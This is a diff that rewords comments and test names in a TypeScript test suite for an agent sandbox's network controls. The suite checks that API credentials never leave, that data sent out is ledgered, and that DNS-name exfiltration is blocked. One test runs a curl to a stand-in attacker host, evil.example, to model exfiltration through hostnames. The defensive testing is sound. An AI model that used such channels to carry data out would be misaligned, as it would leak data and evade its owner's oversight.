@@ -1,4 +1,4 @@
-/** What leaves by the web: never a credential, no way in, and what an agent can carry out. */
+/** The web carries no credential out and opens no way in; and what an agent can carry out by it. */
 import { describe, expect, test } from 'vitest';
 import { deferred } from '../../src/deferred.ts';
 import { Internet, needsInternet } from '../internet/internet.ts';
@@ -8,13 +8,13 @@ import { runs, trust } from '../support/browsing.ts';
 import { listeningAddresses } from '../support/listening.ts';
 
 const secret = 'the-real-key';
-/** Those of the model API's own clients, with what the agent has for a credential. */
+/** The headers of the model API's clients, with the agent's placeholder as the credential. */
 const headers = ['x-api-key: $ANTHROPIC_API_KEY', 'authorization: Bearer $ANTHROPIC_API_KEY']
   .map((header) => `-H "${header}"`)
   .join(' ');
 
 describe('the credential of the model API', needsInternet, () => {
-  test('goes to nobody on the web, not to a host with the name of the API either', async () => {
+  test('goes to nobody on the web, not even to a host with the name of the API', async () => {
     const internet = await Internet.start();
     const api = await internet.host('api.anthropic.com', page('not the API'));
     const app = await App.start();
@@ -64,8 +64,8 @@ describe('a download', needsInternet, () => {
   });
 });
 
-describe('an agent that wants to carry something out', needsInternet, () => {
-  test('can, to a host that it may reach: in paths, headers and bodies', async () => {
+describe('an agent that tries to carry data out', needsInternet, () => {
+  test('can do so to a host that it may reach: in paths, headers and bodies', async () => {
     const internet = await Internet.start();
     const wiki = await internet.host('en.wikipedia.org', page('an article'));
     const app = await App.start();
@@ -78,14 +78,14 @@ describe('an agent that wants to carry something out', needsInternet, () => {
       headers: { 'x-note': 'carried' },
     });
     expect(seen?.headers['content-length']).toBe(String('carried in a body'.length));
-    // What the owner sees of it: where it went, and how much it was.
+    // The owner sees where it went and how many bytes.
     const { bytesUp } = await wiki.settledTraffic();
     await expect
       .poll(() => app.rows("SELECT bytes_up FROM ledger WHERE host = 'en.wikipedia.org'"))
       .toEqual([{ bytes_up: bytesUp }]);
   });
 
-  test('can, with the whole web, in the names that it asks for', async () => {
+  test('can do so with the whole web open, in the names that it looks up', async () => {
     const internet = await Internet.start();
     const app = await App.start();
     const said = await runs(app, 'curl -sS http://carried-in-a-name.evil.example/');
@@ -96,7 +96,7 @@ describe('an agent that wants to carry something out', needsInternet, () => {
     ]);
   });
 
-  test('cannot, with a list, in names that are not on it', async () => {
+  test('cannot do so in names that are not on its list', async () => {
     const internet = await Internet.start();
     const app = await App.start();
     await runs(
